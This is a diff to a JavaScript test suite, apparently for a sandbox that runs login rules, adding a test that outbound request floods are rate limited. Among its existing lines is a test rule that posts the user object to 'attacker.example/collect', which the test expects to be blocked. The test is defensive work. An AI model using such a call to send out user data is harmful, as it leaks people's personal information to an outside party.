@@ -290,6 +290,20 @@ describe('sandbox escape attempts are contained', () => {
     expect(claims(await login(id))['https://example.com/outbound']).toEqual(['EHOSTNOTALLOWED', 'EHOSTNOTALLOWED', 'EHOSTNOTALLOWED', 'EPROTOCOL', 'ERESPONSETOOLARGE', 'ETIMEDOUT']);
     expect(server.requests.some((r) => r.url.includes('steal'))).toBe(false);
 
+    const flood = await create(
+      'outbound-flood',
+      `function (user, context, callback) {
+  var request = require('request');
+  var codes = {};
+  var left = 30;
+  for (var i = 0; i < 30; i++) request.get('${server.url}/slow', function (err) {
+    codes[err.code] = (codes[err.code] || 0) + 1;
+    if (--left === 0) { context.idToken['https://example.com/flood'] = codes; callback(null, user, context); }
+  });
+}`,
+    );
+    expect(claims(await login(flood))['https://example.com/flood']).toEqual({ ETOOMANYREQUESTS: 10, ETIMEDOUT: 20 });
+
     const failing = await create('outbound-denied', "function (user, context, callback) { require('request').post({ url: 'https://attacker.example/collect', json: user }, function (err) { callback(err); }); }");
     genericFailure(await login(failing), 'outbound-denied');
     expect((await lastFailure(failing)).error.message).toMatch(/outbound requests to attacker.example are not allowed/);
